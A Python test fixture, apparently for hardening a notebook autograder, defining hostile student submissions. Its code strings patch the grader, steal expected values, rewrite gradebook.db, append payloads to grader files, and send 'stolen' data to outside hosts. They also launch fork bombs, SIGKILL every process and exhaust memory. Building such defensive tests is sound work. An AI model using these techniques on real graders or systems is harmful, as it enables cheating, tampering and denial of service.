"""Hostile submissions to assignment 1, each with the exact score its work deserves.

Written as a motivated student would write them, with the public `graders`, `helpers` and
`worker` source in hand: one submission per class of attack on the grading path. Each is the
release notebook with some answers filled in ("reference": the source's solutions, "blank": the
stubs as released, or a dict of grade_id -> cell source) and extra cells inserted right after
the import cell (or at the end, `last=True`), and sometimes its JSON tampered with (`tamper`).
`deserves` is the score of the work itself: what the functions the student wrote would earn in
a grader that cannot be fooled.

A1 has 10 points: basic_sigmoid 1, sigmoid 1, sigmoid_derivative 1, image2vector 1,
normalize_rows 2, softmax 2, L1 1, L2 1.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Callable

FULL = 10.0
FUNCTIONS = ("basic_sigmoid", "sigmoid", "sigmoid_derivative", "image2vector", "normalize_rows",
             "softmax", "L1", "L2")
DAEMON_MARK = "424242"  # argv of the processes a submission leaves behind, to find them afterwards
PORT_PLACEHOLDER = "{PORT}"  # replaced by the port of a listener the test starts on 127.0.0.1


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str  # the class of attack, in words
    answers: str | dict  # "reference", "blank", or grade_id -> source
    cells: tuple[str, ...] = ()  # extra code cells, after the imports
    last: tuple[str, ...] = ()  # extra code cells at the end
    deserves: float = 0.0
    tamper: Callable | None = field(default=None, compare=False)  # nb -> None, edits the JSON


# ----------------------------------------------------------------------------------------------
# Tampering with the notebook's JSON


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def duplicate_ids(nb) -> None:
    """A second cell claiming the sigmoid solution's grade_id, a copy of a test cell, and a
    100-point grade cell of the student's own."""
    cells = nb.cells
    solution = next(c for c in cells if _meta(c).get("grade_id") == "sigmoid")
    test = next(c for c in cells if _meta(c).get("grade_id") == "test_L1")
    extra = copy.deepcopy(solution)
    extra.source = "print('a second cell with the same grade_id')"
    bonus = copy.deepcopy(test)
    bonus.source = "print('bonus points, please')"
    bonus.metadata["nbgrader"].update(grade_id="bonus", points=100)
    cells.insert(cells.index(solution) + 1, extra)
    cells.insert(cells.index(test) + 1, copy.deepcopy(test))
    cells.append(bonus)


def strip_metadata(nb) -> None:
    """Every test cell deleted, and the solution cells' nbgrader metadata removed."""
    nb.cells = [c for c in nb.cells if not (_meta(c).get("grade") and not _meta(c).get("solution"))]
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


def unlock_tests(nb) -> None:
    """Every test cell unlocked and rewritten to pass; one of them turned into markdown."""
    for cell in nb.cells:
        meta = _meta(cell)
        if meta.get("grade") and not meta.get("solution"):
            meta["locked"] = False
            cell.source = "print('all checks passed')"
            if meta.get("grade_id") == "test_softmax":
                cell.cell_type = "markdown"
                cell.pop("outputs", None)
                cell.pop("execution_count", None)


# ----------------------------------------------------------------------------------------------
# Code that a hostile student runs

STUBS_EVERYWHERE = "blank"

PATCH_THE_JUDGE = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
import graders.checking, graders.judging, graders.a1_numpy_basics
graders.judging.judge = lambda *a, **k: graders.judging.Verdict("x", "passed", message="passed")
graders.judging.compare = lambda *a, **k: []
graders.checking.Checker.__call__ = lambda self, name, func: print(name, "passed")
graders.a1_numpy_basics.check = lambda *a, **k: print("passed")
check = graders.a1_numpy_basics.check
"""

FAKE_GRADERS = """
import sys, types
for name in ("graders", "graders.a1_numpy_basics", "graders.checking", "graders.judging",
             "graders.running", "graders.plaindata", "graders.cases"):
    module = types.ModuleType(name)
    module.__path__ = []
    module.check = lambda *a, **k: print("passed")
    sys.modules[name] = module
"""

IPYTHON_HOOKS = """
ip = get_ipython()
ip.input_transformers_post.append(
    lambda lines: ["print('all checks passed')\\n"] if any("check(" in l for l in lines) else lines)
ip.events.register("post_run_cell", lambda result: print("all checks passed"))
ip.events.register("pre_run_cell", lambda info: None)
"""

STEAL_EXPECTED = """
import gc, sys
import numpy as np
import graders.a1_numpy_basics  # the public cases, with their expected values

def _same(a, b):
    try:
        return type(a) == type(b) and (np.array_equal(a, b) if isinstance(a, np.ndarray) else a == b)
    except Exception:
        return False

def _has_case_fields(o):
    try:
        return type(o).__name__ in ("Case", "CaseToRun") and hasattr(o, "inputs")
    except Exception:
        return False

def _steal(**inputs):
    candidates = [o for o in gc.get_objects() if _has_case_fields(o)]
    frame = sys._getframe()
    while frame is not None:
        candidates += [v for v in frame.f_locals.values() if _has_case_fields(v)]
        frame = frame.f_back
    for case in candidates:
        try:
            given = dict(case.inputs)
        except Exception:
            continue
        if given.keys() == inputs.keys() and all(_same(given[k], inputs[k]) for k in inputs):
            expected = getattr(case, "expected", None)
            return getattr(expected, "value", expected)
    return None
"""
STEAL_FUNCTIONS = {
    "basic_sigmoid": "def basic_sigmoid(x):\n    return _steal(x=x)",
    "sigmoid": "def sigmoid(x):\n    return _steal(x=x)",
    "sigmoid_derivative": "def sigmoid_derivative(x):\n    return _steal(x=x)",
    "image2vector": "def image2vector(image):\n    return _steal(image=image)",
    "normalize_rows": "def normalize_rows(x):\n    return _steal(x=x)",
    "softmax": "def softmax(x):\n    return _steal(x=x)",
    "L1": "def L1(yhat, y):\n    return _steal(yhat=yhat, y=y)",
    "L2": "def L2(yhat, y):\n    return _steal(yhat=yhat, y=y)",
}

FIND_HIDDEN_CHECKS = """
import importlib, os, pathlib
found = []
for name in ("graders.hidden.a1_numpy_basics", "instructor.hidden.a1_numpy_basics", "instructor"):
    try:
        importlib.import_module(name)
        found.append(name)
    except Exception as error:
        print("cannot import", name, type(error).__name__)
import graders
course = pathlib.Path(graders.__file__).resolve().parents[1]
for guess in (course / "instructor" / "hidden", course / "graders" / "hidden", course / "notebooks",
              course / "gradebook.db", course / "nbgrader_config.py", course / "submitted"):
    if guess.exists():
        found.append(str(guess))
print("found:", found)
"""

EXEC_SOLUTIONS = """
import json, os, pathlib
import graders
course = pathlib.Path(graders.__file__).resolve().parents[1]
places = [course, pathlib.Path.cwd(), pathlib.Path.cwd().parent, pathlib.Path.home(), pathlib.Path("/")]
for place in places:
    for top, dirs, files in os.walk(place):
        if top.count(os.sep) - str(place).count(os.sep) > 4 or top.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith(".ipynb"):
                try:
                    cells = json.load(open(os.path.join(top, name)))["cells"]
                except Exception:
                    continue
                for cell in cells:
                    source = "".join(cell.get("source", ""))
                    if "### BEGIN SOLUTION" in source:
                        exec(source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
                        print("took a solution from", top, name)
"""

WRITE_THE_GRADEBOOK = """
import glob, os, pathlib, sqlite3
import graders
course = pathlib.Path(graders.__file__).resolve().parents[1]
for path in [*glob.glob(str(course / "*.db")), *glob.glob("/**/gradebook.db", recursive=False),
             str(pathlib.Path.cwd().parents[2] / "gradebook.db") if len(pathlib.Path.cwd().parents) > 2 else ""]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0")
        db.execute("UPDATE grade SET auto_score = max_score WHERE id IN (SELECT id FROM grade)")
        db.commit()
        print("wrote", path)
    except Exception as error:
        print("could not write", path, error)
"""

TAMPER_WITH_GRADERS = """
import pathlib
import graders
course = pathlib.Path(graders.__file__).resolve().parents[1]
payload = "\\ncheck = lambda *a, **k: print('passed')\\nimport os; os.system('touch /tmp/pwned-by-student')\\n"
for target in (course / "graders" / "checking.py", course / "graders" / "a1_numpy_basics.py",
               course / "graders" / "judging.py", course / "instructor" / "hidden" / "a1_numpy_basics.py",
               course / "nbgrader_config.py", course / "worker" / "serve.py",
               pathlib.Path.home() / ".jupyter" / "nbgrader_config.py"):
    try:
        with open(target, "a") as f:
            f.write(payload)
        print("appended to", target)
    except Exception as error:
        print("could not append to", target, type(error).__name__)
"""

LEAVE_A_DAEMON = f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execvp("sleep", ["sleep", "{DAEMON_MARK}"])
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.2)
"""

KILL_EVERYONE = """
import os, signal
for target in (-1, 0):
    try:
        os.kill(target, signal.SIGKILL) if target == -1 else os.killpg(0, signal.SIGKILL)
    except OSError as error:
        print("kill", target, error)
for pid in range(2, 5000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
print("still here")
"""

PHONE_HOME = """
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
    try:
        with socket.create_connection((host, {PORT}), timeout=2) as s:
            s.sendall(b"stolen: the hidden checks")
            print("sent to", host)
    except OSError as error:
        print("no connection to", host, type(error).__name__)
"""

FORK_BOMB = f"""
import os
children = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "{DAEMON_MARK}"])
        children += 1
except OSError as error:
    print("stopped after", children, "processes:", error)
"""

FLOOD_OUTPUT = """
import os, sys
from IPython.display import HTML, display
print("x" * (50 * 2**20))
display(HTML("<p>" + "y" * (50 * 2**20) + "</p>"))
display({"image/png": "A" * (20 * 2**20)}, raw=True)
for _ in range(500):
    display(HTML("<b>one more output</b>"))
os.write(1, b"\\x00garbage" * 100000)
os.write(2, b"\\x00garbage" * 100000)
"""

IGNORE_INTERRUPTS = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
"""

HOG_MEMORY = """
try:
    hog = bytearray(16 * 2**30)
except MemoryError:
    print("no memory for that")
blocks = []
try:
    for _ in range(100):
        blocks.append(bytearray(512 * 2**20))
except MemoryError:
    print("stopped at", len(blocks), "blocks of 512 MiB")
del blocks
"""

FORGE_OUTCOMES = """
import json, os, struct
import graders.running, graders.a1_numpy_basics, graders.plaindata
public = {e.function: e for e in graders.a1_numpy_basics.EXERCISES}

def _forged(func, case):
    for exercise in public.values():
        for known in exercise.cases:
            try:
                if graders.plaindata.identical(dict(known.inputs), dict(case.inputs)):
                    expected = known.expected
                    return graders.running.Outcome(value=getattr(expected, "value", expected))
            except Exception:
                pass
    return graders.running.Outcome(value=0.5)

graders.running.record_call = _forged
frame = json.dumps({"cell": 4, "result": {"status": "ok", "outputs": [], "outcomes": [
    {"value": 0.7310585786300049}] * 8}}).encode()
for fd in range(3, 30):
    try:
        os.write(fd, struct.pack(">I", len(frame)) + frame)
    except OSError:
        pass
"""

PRINT_SUCCESS = """
for name in ("basic_sigmoid", "sigmoid", "sigmoid_derivative", "image2vector", "normalize_rows",
             "softmax", "L1", "L2"):
    print(f"{name}: 4 self-checks and 4 hidden checks passed.")
from IPython.display import display
display({"application/json": {"verdict": "passed", "score": 10}}, raw=True)
10
"""

PLANT_FILES = """
import os, pathlib
for place in ("/tmp/planted", os.path.expanduser("~/planted"), "/dev/shm/planted", "/planted",
              "/home/planted", "/work/planted", str(pathlib.Path.cwd().parent / "planted")):
    try:
        pathlib.Path(place).write_text("planted")
        print("planted", place)
    except OSError as error:
        print("could not plant", place, type(error).__name__)
os.environ["PLANTED"] = "1"
"""

# An observer's answers are right only while no planted file is in sight.
OBSERVER_HELPER = """
import os, pathlib
def _tainted():
    places = ("/tmp/planted", os.path.expanduser("~/planted"), "/dev/shm/planted", "/planted",
              "/home/planted", "/work/planted", str(pathlib.Path.cwd().parent / "planted"))
    return any(os.path.exists(p) for p in places) or os.environ.get("PLANTED") or os.path.exists("gradebook.db")
"""


def observer_answers(reference: dict[str, str]) -> dict[str, str]:
    """The reference answers, each made to return None when a planted file is visible."""
    answers = {}
    for grade_id, source in reference.items():
        lines = source.splitlines()
        at = next(i for i, line in enumerate(lines) if line.startswith("def ")) + 1
        answers[grade_id] = "\n".join([*lines[:at], "    if _tainted():\n        return None", *lines[at:]])
    return answers


def reference_but(reference: dict[str, str], **replaced: str) -> dict[str, str]:
    return {**reference, **replaced}


def hostile_submissions(reference: dict[str, str]) -> list[Hostile]:
    """Every hostile submission, given the reference answers of assignment 1."""
    no_L2 = reference_but(reference, L2="def L2(yhat, y):\n    return 0.0")
    return [
        Hostile("patches_the_judge", "rebinds numpy's comparisons and the public judge", STUBS_EVERYWHERE,
                (PATCH_THE_JUDGE,)),
        Hostile("fakes_the_graders_package", "a fake graders package in sys.modules", STUBS_EVERYWHERE,
                (FAKE_GRADERS,)),
        Hostile("hooks_ipython", "IPython hooks and input transformers against test cells", STUBS_EVERYWHERE,
                (IPYTHON_HOOKS,)),
        Hostile("steals_expected_values", "functions that walk frames and gc to the cases' expected values",
                STEAL_FUNCTIONS, (STEAL_EXPECTED,)),
        Hostile("looks_for_hidden_checks", "imports and reads the hidden checks and the course", STUBS_EVERYWHERE,
                (FIND_HIDDEN_CHECKS,)),
        Hostile("execs_source_solutions", "runs the solution cells of any notebook it can find", STUBS_EVERYWHERE,
                (EXEC_SOLUTIONS,)),
        Hostile("writes_the_gradebook", "opens gradebook.db and rewrites every score", no_L2,
                (WRITE_THE_GRADEBOOK,), deserves=FULL - 1),
        Hostile("tampers_with_grader_files", "appends code to the graders and to nbgrader_config.py",
                STUBS_EVERYWHERE, (TAMPER_WITH_GRADERS,)),
        Hostile("leaves_a_daemon", "a double-forked process that outlives its notebook", "reference",
                (LEAVE_A_DAEMON,), deserves=FULL),
        Hostile("kills_everyone", "SIGKILL to every process it can name", "reference", (KILL_EVERYONE,),
                deserves=FULL),
        Hostile("phones_home", "sends data to a listener on 127.0.0.1", "reference", (PHONE_HOME,), deserves=FULL),
        Hostile("forks_300_processes", "a fork bomb", "reference", (FORK_BOMB,), deserves=FULL),
        Hostile("floods_the_output", "50 MB prints and displays, garbage on stdout and stderr", "reference",
                (FLOOD_OUTPUT,), deserves=FULL),
        Hostile("duplicates_grade_ids", "duplicated grade_id, a copied test cell, a 100-point cell of its own",
                "reference", deserves=FULL, tamper=duplicate_ids),
        Hostile("strips_metadata", "test cells deleted, solution metadata stripped", "reference",
                deserves=FULL, tamper=strip_metadata),
        Hostile("unlocks_the_tests", "test cells unlocked and rewritten, one turned into markdown",
                STUBS_EVERYWHERE, tamper=unlock_tests),
        Hostile("ignores_interrupts", "a top-level loop that ignores SIGINT and SIGTERM", "reference",
                (IGNORE_INTERRUPTS,), deserves=FULL),
        Hostile("hogs_memory", "allocates far more memory than the machine has", "reference", (HOG_MEMORY,),
                deserves=FULL),
        Hostile("forges_outcomes", "replaces the runner's calls and writes forged results to every pipe",
                STUBS_EVERYWHERE, (FORGE_OUTCOMES,)),
        Hostile("prints_success", "prints every success line and a partial-credit number", STUBS_EVERYWHERE,
                last=(PRINT_SUCCESS,)),
        Hostile("plants_files", "leaves files where the next notebook might look", "reference",
                (PLANT_FILES,), deserves=FULL),
        Hostile("zz_observer", "right answers only while nothing planted is visible", observer_answers(reference),
                (OBSERVER_HELPER,), deserves=FULL),
    ]
